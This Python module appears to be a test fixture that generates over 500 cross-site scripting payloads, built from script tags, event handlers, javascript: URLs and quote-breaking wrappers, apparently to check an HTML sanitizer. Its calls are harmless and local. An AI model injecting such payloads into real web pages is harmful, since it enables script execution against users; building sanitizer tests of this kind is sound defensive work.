"""Text that would run or load something where it is read as markup: every way of starting a script, in every wrapping."""

CALLS = ["alert(1)", "window.__ran=1", "document.title='ran'", "fetch('http://127.0.0.1:9/x')"]
SHAPES = [
    "<script>{}</script>", "</script><script>{}</script>", "<ScRiPt>{}</sCrIpT>", "<script >{}</script >",
    "<img src=x onerror={}>", "<img src=x onerror=\"{}\">", "<svg onload={}>", "<svg><script>{}</script></svg>",
    "<body onload={}>", "<iframe src=\"javascript:{}\"></iframe>", "<a href=\"javascript:{}\">x</a>",
    "<details open ontoggle={}>", "<video><source onerror={}></video>", "<input autofocus onfocus={}>",
    "<math><mtext><script>{}</script></mtext></math>", "<style>@import 'http://127.0.0.1:9/';</style>{}",
    "<object data=\"javascript:{}\"></object>", "<embed src=\"javascript:{}\">", "javascript:{}",
    "<meta http-equiv=refresh content=\"0;url=javascript:{}\">", "<base href=\"http://127.0.0.1:9/\">{}",
    "<form action=\"javascript:{}\"><button>x</button></form>", "<!--<script>{}</script>-->", "]]><script>{}</script>",
    "<template><script>{}</script></template>", "<noscript><img src=x onerror={}></noscript>",
    "<link rel=stylesheet href=\"javascript:{}\">",
]
WRAPS = ["{}", "\"{}", "'{}", "\\\"{}", "`{}`"]


def payloads():
    found = [wrap.format(shape.format(call)) for call in CALLS for shape in SHAPES for wrap in WRAPS]
    assert len(set(found)) >= 500
    return found
